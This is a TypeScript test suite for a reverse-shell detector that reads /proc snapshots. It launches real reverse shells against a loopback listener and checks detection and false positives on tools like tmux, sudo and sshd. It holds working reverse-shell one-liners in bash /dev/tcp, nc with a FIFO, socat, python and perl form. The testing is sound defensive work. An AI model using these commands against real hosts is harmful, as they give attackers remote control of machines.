/**
 * Real reverse shells on loopback, seen through a real /proc snapshot.
 * Every attack connects to a listener this test starts on 127.0.0.1; every process tree is killed
 * (process group and each descendant, since `setsid` shells leave the group) after each test.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createConnection } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { detectReverseShells, memoScriptAnalysis, type ReverseShellFinding } from '../../src/engines/revshell/index.js';
import { readProcessScript } from '../../src/host/procfs/read-script.js';
import { readProcessSnapshot } from '../../src/host/procfs/read-snapshot.js';
import type { ProcessInfo, ProcessSnapshot } from '../../src/host/procfs/snapshot-types.js';
import { PYTHON, runnableExamples, which } from '../helpers/revshell-examples.js';
import { closeListener, killTree, startListener, type Listener } from '../helpers/loopback-listener.js';

const NC = which('nc');
const SOCAT = which('socat');
const PERL = which('perl');
const SSHD = existsSync('/usr/sbin/sshd') && which('ssh') && which('ssh-keygen') ? '/usr/sbin/sshd' : null;

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

const started: number[] = [];
const tempDirs: string[] = [];
const extraListeners: Listener[] = [];
let listener: Listener | null = null;

function launch(argv: string[]): number {
  return launchChild(argv, 'ignore').pid as number;
}

function launchChild(argv: string[], stdin: 'ignore' | 'pipe'): ChildProcess {
  const [bin, ...args] = argv;
  if (!bin) throw new Error('empty argv');
  const child = spawn(bin, args, { detached: true, stdio: [stdin, 'ignore', 'ignore'] });
  child.on('error', () => undefined);
  if (child.pid === undefined) throw new Error(`could not start ${bin}`);
  child.unref();
  started.push(child.pid);
  return child;
}

beforeEach(async () => {
  listener = await startListener();
});

afterEach(async () => {
  for (const root of started.splice(0)) killTree(root);
  for (const l of [listener, ...extraListeners.splice(0)]) if (l) await closeListener(l);
  listener = null;
  for (const d of tempDirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

function snapshot(): ProcessSnapshot {
  return readProcessSnapshot({ selfPid: process.pid });
}

function inTree(s: ProcessSnapshot, root: number): ProcessInfo[] {
  const byPid = new Map(s.processes.map((p) => [p.pid, p]));
  return s.processes.filter((p) => {
    let cur: ProcessInfo | undefined = p;
    for (let i = 0; i < 64 && cur; i++) {
      if (cur.pid === root) return true;
      cur = byPid.get(cur.ppid);
    }
    return false;
  });
}

/** Script files read through /proc, as the agent reads them. */
const analyzeScript = memoScriptAnalysis(readProcessScript);

function findingsFor(s: ProcessSnapshot, root: number): ReverseShellFinding[] {
  const tree = new Set(inTree(s, root).map((p) => p.pid));
  return detectReverseShells(s, { selfPid: process.pid, analyzeScript }).filter((f) => tree.has(f.pid));
}

/** Poll real snapshots until `ready` holds (bounded), then return that snapshot. */
async function waitFor(ready: (s: ProcessSnapshot) => boolean, what: string, limitMs = 30_000): Promise<ProcessSnapshot> {
  const until = Date.now() + limitMs;
  for (;;) {
    const s = snapshot();
    if (ready(s)) return s;
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
    await sleep(150);
  }
}

/** Proves the connection is a working shell: the listener sends arithmetic only a shell evaluates. */
async function expectShellAnswers(l: Listener, marker: string): Promise<void> {
  l.send(`echo ${marker}_$((6*7))\n`);
  const until = Date.now() + 30_000;
  while (!l.received().includes(`${marker}_42`)) {
    if (Date.now() > until) throw new Error(`shell did not answer; got ${JSON.stringify(l.received().slice(-200))}`);
    await sleep(100);
  }
}

function shellIn(s: ProcessSnapshot, root: number, match: (p: ProcessInfo) => boolean): ProcessInfo | undefined {
  return inTree(s, root).find(match);
}

describe('live reverse shells on loopback', () => {
  it('class 1: bash -i >& /dev/tcp', async () => {
    const l = listener as Listener;
    // --norc/--noprofile: the detector does not care, but a slow ~/.bashrc (pyenv init) on a loaded
    // CI machine can delay the connection past the poll limit.
    const root = launch(['bash', '-c', `bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/${l.port} 0>&1`]);
    const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'class-1 finding');
    const shell = shellIn(s, root, (p) => p.comm === 'bash' && p.fds.some((f) => f.fd === 0 && f.kind === 'socket'));
    expect(shell).toBeDefined();
    const f = findingsFor(s, root);
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ class: 1, ruleId: 'revshell.stdio-socket', level: 'serious', pid: shell?.pid, holderPid: shell?.pid });
    expect(f[0]?.peer).toMatchObject({ proto: 'tcp', remoteAddress: '127.0.0.1', remotePort: l.port });
    await expectShellAnswers(l, 'C1');
  });

  it.skipIf(!NC)('class 2 via pipes and a FIFO: cat F | sh -i | nc > F', async () => {
    const l = listener as Listener;
    const dir = mkdtempSync(join(tmpdir(), 'vigil-revshell-'));
    tempDirs.push(dir);
    const fifo = join(dir, 'f');
    const root = launch(['sh', '-c', `rm -f ${fifo}; mkfifo ${fifo}; cat ${fifo} | sh -i 2>&1 | ${NC} 127.0.0.1 ${l.port} > ${fifo}`]);
    const s = await waitFor((x) => findingsFor(x, root).some((f) => f.class === 2) && l.conns.length > 0, 'class-2 pipe finding');
    const shell = shellIn(s, root, (p) => p.cmdline.join(' ') === 'sh -i');
    const nc = shellIn(s, root, (p) => p.comm.startsWith('nc'));
    expect(shell && nc).toBeTruthy();
    const f = findingsFor(s, root).filter((x) => x.class === 2);
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ ruleId: 'revshell.relayed-stdio', level: 'serious', pid: shell?.pid, holderPid: nc?.pid });
    expect(f[0]?.peer?.remotePort).toBe(l.port);
    expect(f[0]?.via.map((h) => h.link)).toContain('pipe');
    // The parent `sh -c … mkfifo …` is part of the chain, not a second alert.
    expect(findingsFor(s, root)).toHaveLength(1);
    await expectShellAnswers(l, 'C2P');
  });

  it.skipIf(!SOCAT)('class 2 via a pty: socat exec:bash -li,pty,setsid', async () => {
    const l = listener as Listener;
    const root = launch([SOCAT as string, "exec:'bash --norc --noprofile -i',pty,stderr,setsid,sigint,sane", `tcp:127.0.0.1:${l.port}`]);
    const s = await waitFor((x) => findingsFor(x, root).some((f) => f.class === 2) && l.conns.length > 0, 'class-2 pty finding');
    const shell = shellIn(s, root, (p) => p.comm === 'bash');
    expect(shell?.fds.find((f) => f.fd === 0)?.kind).toBe('pts');
    const f = findingsFor(s, root);
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ class: 2, level: 'serious', pid: shell?.pid, holderPid: root });
    expect(f[0]?.via[0]).toMatchObject({ pid: root, link: 'pty' });
    expect(f[0]?.peer?.remotePort).toBe(l.port);
    await expectShellAnswers(l, 'C2T');
  });

  it.skipIf(!PYTHON)('class 2 via a pty held by python pty.spawn over a socket', async () => {
    const l = listener as Listener;
    const code = `import os,pty,socket;s=socket.socket();s.connect(("127.0.0.1",${l.port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
    const root = launch([PYTHON as string, '-c', code]);
    const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'python pty finding');
    const shell = shellIn(s, root, (p) => p.ppid === root && p.comm === 'sh');
    const f = findingsFor(s, root);
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ class: 2, level: 'serious', pid: shell?.pid, holderPid: root });
    expect(f[0]?.peer?.remotePort).toBe(l.port);
    await expectShellAnswers(l, 'C2Y');
  });

  it.skipIf(!PERL)('class 3: perl socket loop running commands through system()', async () => {
    const l = listener as Listener;
    const code = `$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:${l.port}");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`;
    const root = launch([PERL as string, '-MIO', '-e', code]);
    const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'perl class-3 finding');
    const f = findingsFor(s, root);
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ class: 3, ruleId: 'revshell.interpreter-cmdline', level: 'serious', pid: root, holderPid: root });
    expect(f[0]?.peer?.remotePort).toBe(l.port);
    await expectShellAnswers(l, 'C3P');
  });

  it.skipIf(!PYTHON)('python script file feeding received commands to a shell it started', async () => {
    const l = listener as Listener;
    const dir = mkdtempSync(join(tmpdir(), 'vigil-revshell-'));
    tempDirs.push(dir);
    const script = join(dir, 'worker.py');
    // Nothing in argv gives it away: only the topology (outbound socket, shell whose stdin it feeds) does.
    writeFileSync(
      script,
      [
        'import socket, subprocess, sys, threading',
        's = socket.create_connection(("127.0.0.1", int(sys.argv[1])))',
        'p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)',
        'def out():',
        '    for b in iter(lambda: p.stdout.read1(4096), b""):',
        '        s.sendall(b)',
        'threading.Thread(target=out, daemon=True).start()',
        'for line in s.makefile("rb"):',
        '    p.stdin.write(line)',
        '    p.stdin.flush()',
        '',
      ].join('\n'),
    );
    const root = launch([PYTHON as string, script, String(l.port)]);
    await waitFor(() => l.conns.length > 0, 'connection');
    const s = await waitFor((x) => findingsFor(x, root).length > 0, 'python-fed shell finding');
    const shell = shellIn(s, root, (p) => p.ppid === root && p.comm === 'sh');
    const f = findingsFor(s, root);
    expect(f).toHaveLength(1);
    // The interpreter relays the shell's stdin/stdout to its socket: class 2 (relay) takes it before class 3.
    expect(f[0]).toMatchObject({ level: 'serious', pid: shell?.pid, holderPid: root });
    expect(f[0]?.peer?.remotePort).toBe(l.port);
    await expectShellAnswers(l, 'C3Y');
  });
});

const examples = runnableExamples();

describe('every seed example this machine can run', () => {
  it('runs all of them (none skipped for a missing package the test setup installs)', () => {
    expect(examples.skipped).toEqual([]);
  });

  it.each(examples.runnable.map((e) => [e.name, e] as const))('%s', async (_name, ex) => {
    const l = listener as Listener;
    if (ex.tls) {
      await closeListener(l);
      listener = await startListener(true);
    }
    const cmdL = listener as Listener;
    const outL = await startListener();
    extraListeners.push(outL);
    const dir = mkdtempSync(join(tmpdir(), 'vigil-revshell-ex-'));
    tempDirs.push(dir);
    const root = launch(ex.argv({ port: cmdL.port, port2: outL.port, dir }));
    await waitFor(() => cmdL.conns.length > 0, `${ex.name}: connection`);
    const hasClass = (x: ProcessSnapshot): boolean => findingsFor(x, root).some((f) => f.class === ex.class);
    const s = await waitFor(hasClass, `${ex.name}: class-${ex.class} finding`);
    const f = findingsFor(s, root).find((x) => x.class === ex.class) as ReverseShellFinding;
    expect(f.peer?.remoteAddress).toMatch(/^(::ffff:)?127\.0\.0\.1$/);
    expect([cmdL.port, outL.port]).toContain(f.peer?.remotePort);
    // One alert per attack: a relay's parent `sh -c` and nested shells are in the chain, not extra findings.
    expect(findingsFor(s, root).filter((x) => x.class === ex.class)).toHaveLength(1);
    await expectShellAnswers(ex.answersOn2 ? { ...cmdL, received: outL.received } : cmdL, `EX${ex.class}`);
    if (ex.keepShell) {
      cmdL.send(`${ex.keepShell}\n`);
      const running = await waitFor((x) => findingsFor(x, root).some((y) => y.class === ex.class && y.level === 'serious' && y.pid !== root), `${ex.name}: shell running a command`);
      const withShell = findingsFor(running, root).find((y) => y.class === ex.class && y.level === 'serious');
      expect(running.processes.find((p) => p.pid === withShell?.pid)?.comm).toMatch(/^(sh|bash|dash)$/);
      expect(withShell?.holderPid).toBe(root);
    } else {
      expect(f.level).toBe('serious');
    }
  });
});

describe('live look-alikes that are not reverse shells', () => {
  it('node with an outbound TLS-style connection spawning `sh -c` children (npm lifecycle scripts)', async () => {
    const l = listener as Listener;
    // A real ClientHello-sized write keeps the connection busy like an HTTPS download; the child
    // shells get piped stdio, as child_process.spawn/exec give them.
    const code = [
      `const s = require('net').connect(${l.port}, '127.0.0.1', () => s.write(Buffer.alloc(517, 0x16)));`,
      "const cp = require('child_process');",
      "cp.spawn('sh', ['-c', 'sleep 30; true']);",
      "cp.exec('sleep 30; true');",
      'setTimeout(() => {}, 60000);',
    ].join('\n');
    // From a file, as npm runs (inline `node -e` code that connects and spawns is a template hit).
    const dir = mkdtempSync(join(tmpdir(), 'vigil-npm-like-'));
    tempDirs.push(dir);
    writeFileSync(join(dir, 'install.js'), code);
    const root = launch([process.execPath, join(dir, 'install.js')]);
    const s = await waitFor((x) => l.conns.length > 0 && inTree(x, root).filter((p) => p.comm === 'sh').length >= 2, 'node with shell children');
    expect(findingsFor(s, root)).toEqual([]);
    // And over the same time the agent's scans would see: a few more snapshots, still nothing.
    for (let i = 0; i < 5; i++) {
      await sleep(300);
      expect(findingsFor(snapshot(), root)).toEqual([]);
    }
  });

  it('a shell pipeline with no network peer', async () => {
    const root = launch(['bash', '-c', 'sleep 30 | cat']);
    const s = await waitFor((x) => inTree(x, root).some((p) => p.comm === 'sleep') && inTree(x, root).some((p) => p.comm === 'cat'), 'pipeline');
    expect(findingsFor(s, root)).toEqual([]);
  });

  it('a shell that holds a connected socket off stdio (bash /dev/tcp fetch into cat)', async () => {
    const l = listener as Listener;
    const root = launch(['bash', '-c', `exec 3<>/dev/tcp/127.0.0.1/${l.port}; cat <&3 > /dev/null`]);
    const s = await waitFor((x) => l.conns.length > 0 && inTree(x, root).some((p) => p.comm === 'cat'), 'fetch');
    expect(findingsFor(s, root)).toEqual([]);
  });

  it.skipIf(!SOCAT)('a listener process alone, and after a client connects', async () => {
    const l = listener as Listener;
    await new Promise<void>((resolve) => l.server.close(() => resolve()));
    const root = launch([SOCAT as string, '-u', `TCP-LISTEN:${l.port},bind=127.0.0.1,reuseaddr`, 'STDOUT']);
    const listening = (x: ProcessSnapshot): boolean =>
      x.inetSockets.some((k) => k.state === 'LISTEN' && k.localPort === l.port && inTree(x, root).some((p) => p.fds.some((f) => f.inode === k.inode)));
    const s1 = await waitFor(listening, 'socat listening');
    expect(findingsFor(s1, root)).toEqual([]);
    const client = createConnection({ host: '127.0.0.1', port: l.port });
    client.on('error', () => undefined);
    try {
      const s2 = await waitFor(
        (x) => x.inetSockets.some((k) => k.state === 'ESTABLISHED' && k.localPort === l.port && inTree(x, root).some((p) => p.fds.some((f) => f.inode === k.inode))),
        'socat accepted the client',
      );
      expect(findingsFor(s2, root)).toEqual([]);
    } finally {
      client.destroy();
    }
  });

  it.skipIf(!PYTHON)('python3 -m http.server with a client connected', async () => {
    const l = listener as Listener;
    await new Promise<void>((resolve) => l.server.close(() => resolve()));
    const root = launch([PYTHON as string, '-m', 'http.server', '--bind', '127.0.0.1', String(l.port)]);
    await waitFor((x) => x.inetSockets.some((k) => k.state === 'LISTEN' && k.localPort === l.port), 'http.server listening');
    const res = await fetch(`http://127.0.0.1:${l.port}/`);
    expect(res.status).toBe(200);
    await res.text();
    expect(findingsFor(snapshot(), root)).toEqual([]);
  });

  it.skipIf(!which('tmux'))('tmux: shells on its ptys, and an nc in another window connected to a listener', async () => {
    const l = listener as Listener;
    const dir = mkdtempSync(join(tmpdir(), 'vigil-tmux-'));
    tempDirs.push(dir);
    const sock = join(dir, 'tmux.sock');
    const tmux = (...args: string[]) => spawnSync('tmux', ['-S', sock, ...args], { env: { ...process.env, HOME: dir }, encoding: 'utf8' });
    expect(tmux('new-session', '-d', '-s', 'v', 'bash --norc --noprofile -i').status).toBe(0);
    try {
      expect(tmux('new-window', '-t', 'v', `nc 127.0.0.1 ${l.port}`).status).toBe(0);
      const server = Number(tmux('display-message', '-p', '#{pid}').stdout.trim());
      const s = await waitFor((x) => l.conns.length > 0 && inTree(x, server).some((p) => p.comm === 'bash') && inTree(x, server).some((p) => p.comm.startsWith('nc')), 'tmux with bash and nc');
      // The look-alike is real: bash on a pty whose master tmux holds, next to a connected nc.
      expect(inTree(s, server).find((p) => p.comm === 'bash')?.fds.find((f) => f.fd === 0)?.kind).toBe('pts');
      expect(findingsFor(s, server)).toEqual([]);
    } finally {
      tmux('kill-server');
    }
  });

  it.skipIf(!which('sudo'))('sudo -i on a pty (use_pty): sudo holds the master of the root shell', async () => {
    const root = launch(['script', '-qfc', 'sudo -i bash --norc --noprofile -i -c "sleep 30"', '/dev/null']);
    const s = await waitFor((x) => inTree(x, root).some((p) => p.comm === 'sudo') && inTree(x, root).some((p) => p.comm === 'sleep'), 'sudo session');
    expect(inTree(s, root).find((p) => p.comm === 'sudo')?.fds.some((f) => f.kind === 'ptmx')).toBe(true);
    expect(findingsFor(s, root)).toEqual([]);
  });

  it('script(1) holding a pty for a shell, with no network', async () => {
    const root = launch(['script', '-qfc', 'sh -c "sleep 30; true"', '/dev/null']);
    const s = await waitFor((x) => inTree(x, root).some((p) => p.comm === 'sleep'), 'script session');
    expect(findingsFor(s, root)).toEqual([]);
  });

  it.skipIf(!SSHD)('a real ssh login on loopback: sshd holds the socket and the pty master', async () => {
    const l = listener as Listener;
    await new Promise<void>((resolve) => l.server.close(() => resolve()));
    const dir = mkdtempSync(join(tmpdir(), 'vigil-sshd-'));
    tempDirs.push(dir);
    for (const k of ['host_key', 'client_key']) {
      expect(spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, k)]).status).toBe(0);
    }
    writeFileSync(join(dir, 'authorized_keys'), readFileSync(join(dir, 'client_key.pub')));
    chmodSync(join(dir, 'authorized_keys'), 0o600);
    writeFileSync(
      join(dir, 'sshd_config'),
      [
        `Port ${l.port}`,
        'ListenAddress 127.0.0.1',
        `HostKey ${join(dir, 'host_key')}`,
        `AuthorizedKeysFile ${join(dir, 'authorized_keys')}`,
        'PermitRootLogin prohibit-password',
        'PasswordAuthentication no',
        'KbdInteractiveAuthentication no',
        'UsePAM no',
        'StrictModes no',
        `PidFile ${join(dir, 'sshd.pid')}`,
        '',
      ].join('\n'),
    );
    // sshd's privilege-separation directory; Debian's service script normally creates it.
    mkdirSync('/run/sshd', { recursive: true });
    const daemon = launch([SSHD as string, '-D', '-e', '-f', join(dir, 'sshd_config')]);
    await waitFor((x) => x.inetSockets.some((k) => k.state === 'LISTEN' && k.localPort === l.port), 'sshd listening');
    const client = launchChild(
      ['ssh', '-tt', '-i', join(dir, 'client_key'), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '-p', String(l.port), 'root@127.0.0.1'],
      'pipe',
    );
    client.stdin?.write('sleep 30\n');
    const s = await waitFor((x) => inTree(x, daemon).some((p) => p.comm === 'sleep'), 'ssh session running sleep');
    // The look-alike is real: a login shell on a pty whose master is held by sshd with a TCP peer.
    const shell = inTree(s, daemon).find((p) => p.comm === 'bash' || p.comm === 'sh');
    const pts = shell?.fds.find((f) => f.fd === 0)?.ptsIndex;
    const master = inTree(s, daemon).find((p) => p.fds.some((f) => f.kind === 'ptmx' && f.ttyIndex === pts));
    expect(master?.comm).toBe('sshd');
    expect(master?.fds.some((f) => f.kind === 'socket' && s.inetSockets.some((k) => k.inode === f.inode && k.state === 'ESTABLISHED'))).toBe(true);
    expect(findingsFor(s, daemon)).toEqual([]);
    expect(findingsFor(s, client.pid as number)).toEqual([]);
    client.stdin?.end();
  });
});
